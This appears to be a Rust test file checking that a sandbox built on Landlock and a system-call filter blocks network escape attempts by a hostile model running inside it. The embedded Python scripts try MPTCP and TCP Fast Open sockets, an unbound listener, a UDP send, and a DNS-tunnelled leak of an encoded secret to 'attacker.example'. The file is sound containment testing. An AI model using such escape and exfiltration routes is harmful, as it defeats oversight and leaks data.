//! No network: each way out that got past Landlock alone, sent through the example by the
//! hostile model against a listener of the host on 127.0.0.1, which must see nothing.

use std::net::TcpStream;
use std::time::Duration;

use crate::attacks_example::support::{Caller, Site, attempt, python, run, wait_for};
use skills_test_support::host_listeners::{
    assert_no_connection, assert_no_datagram, tcp_listener, udp_listener,
};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn network_an_mptcp_socket_is_refused() {
    for caller in Caller::ALL {
        let site = Site::new(caller);
        let (listener, port) = tcp_listener();
        let script = attempt(&format!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\n\
             s.connect(('127.0.0.1', {port}))\nprint('connected')"
        ));
        let calls = vec![python("mptcp", &script)];
        let test = "network_an_mptcp_socket_is_refused";
        let Some(run) = run(test, caller, &site, calls, || {}).await else {
            continue;
        };
        // EPERM from the system call filter, at either level, whatever the kernel's MPTCP.
        assert_eq!(run.result("mptcp"), "refused 1", "{}", caller.label());
        assert_no_connection(&listener, run.result("mptcp"));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn network_tcp_fast_open_reaches_nothing_outside() {
    for caller in Caller::ALL {
        let site = Site::new(caller);
        let (listener, port) = tcp_listener();
        let script = attempt(&format!(
            "s = socket.socket()\n\
             s.sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', socket.MSG_FASTOPEN, ('127.0.0.1', {port}))\n\
             print('sent')"
        ));
        let calls = vec![python("tfo", &script)];
        let test = "network_tcp_fast_open_reaches_nothing_outside";
        let Some(run) = run(test, caller, &site, calls, || {}).await else {
            continue;
        };
        // The sandbox's own loopback refuses (namespaces), or the filter refuses the socket.
        let out = run.result("tfo");
        assert!(out.starts_with("refused"), "{}: {out}", caller.label());
        assert_no_connection(&listener, out);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn network_listen_without_bind_is_not_reachable_from_the_host() {
    for caller in Caller::ALL {
        let site = Site::new(caller);
        // `listen` without `bind` binds a free port on every address of the command's network;
        // it writes the port into the working directory, and waits for the host to try it.
        let script = "import socket, sys, os, time\n\
             try:\n    s = socket.socket(); s.listen()\n\
             except OSError as e:\n    print('refused', e.errno); open('port', 'w').write('0'); sys.exit()\n\
             open('port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('port.tmp', 'port')\n\
             s.settimeout(0.2)\n\
             for _ in range(50):\n    \
             try:\n        s.accept(); print('accepted'); break\n    \
             except OSError:\n        \
             if os.path.exists('tried'): print('nobody came'); break";
        let calls = vec![python("listen", script)];
        let (port_file, tried) = (site.work.join("port"), site.work.join("tried"));
        let reached = std::sync::Arc::new(std::sync::Mutex::new(None));
        let seen = std::sync::Arc::clone(&reached);
        let host = move || {
            if !wait_for(&port_file, Duration::from_secs(30)) {
                return;
            }
            let port: u16 = std::fs::read_to_string(&port_file)
                .unwrap()
                .trim()
                .parse()
                .unwrap();
            if port != 0 {
                let address = ([127, 0, 0, 1], port).into();
                let attempt = TcpStream::connect_timeout(&address, Duration::from_secs(1));
                *seen.lock().unwrap() = Some(attempt.is_ok());
            }
            std::fs::write(&tried, "").unwrap();
        };
        let test = "network_listen_without_bind_is_not_reachable_from_the_host";
        let Some(run) = run(test, caller, &site, calls, host).await else {
            continue;
        };
        let out = run.result("listen");
        match *reached.lock().unwrap() {
            // The filter refused the socket: nothing listened at all.
            None => assert!(out.starts_with("refused"), "{}: {out}", caller.label()),
            Some(reached) => {
                assert!(
                    !reached,
                    "{}: the host reached the listener",
                    caller.label()
                );
                assert_eq!(out, "nobody came", "{}", caller.label());
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn network_udp_reaches_nothing_outside() {
    for caller in Caller::ALL {
        let site = Site::new(caller);
        let (socket, port) = udp_listener();
        let script = attempt(&format!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             s.sendto(b'exfiltrated', ('127.0.0.1', {port}))\nprint('sent')"
        ));
        let calls = vec![python("udp", &script)];
        let test = "network_udp_reaches_nothing_outside";
        let Some(run) = run(test, caller, &site, calls, || {}).await else {
            continue;
        };
        // Sent into the sandbox's own loopback, where nobody listens (namespaces), or refused
        // by the filter (fallback).
        let out = run.result("udp");
        assert!(out == "sent" || out.starts_with("refused"), "{out}");
        assert_no_datagram(&socket, out);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn network_a_dns_query_reaches_no_resolver() {
    for caller in Caller::ALL {
        let site = Site::new(caller);
        // A resolver of the host's on loopback, standing in for the one in /etc/resolv.conf;
        // the query carries data in its name.
        let (resolver, port) = udp_listener();
        let secret = "c2VjcmV0LWRhdGE";
        let script = format!(
            "import socket, struct\n\
             name = b''.join(bytes([len(p)]) + p for p in b'{secret}.attacker.example'.split(b'.')) + b'\\0'\n\
             query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1)\n\
             try:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)\n    \
             s.sendto(query, ('127.0.0.1', {port})); s.recv(512); print('answered')\n\
             except OSError: print('no answer')\n\
             try:\n    socket.getaddrinfo('{secret}.attacker.example', 80); print('resolved')\n\
             except OSError: print('not resolved')"
        );
        let calls = vec![python("dns", &script)];
        let test = "network_a_dns_query_reaches_no_resolver";
        let Some(run) = run(test, caller, &site, calls, || {}).await else {
            continue;
        };
        assert_eq!(
            run.result("dns"),
            "no answer\nnot resolved",
            "{}",
            caller.label()
        );
        assert_no_datagram(&resolver, run.result("dns"));
    }
}
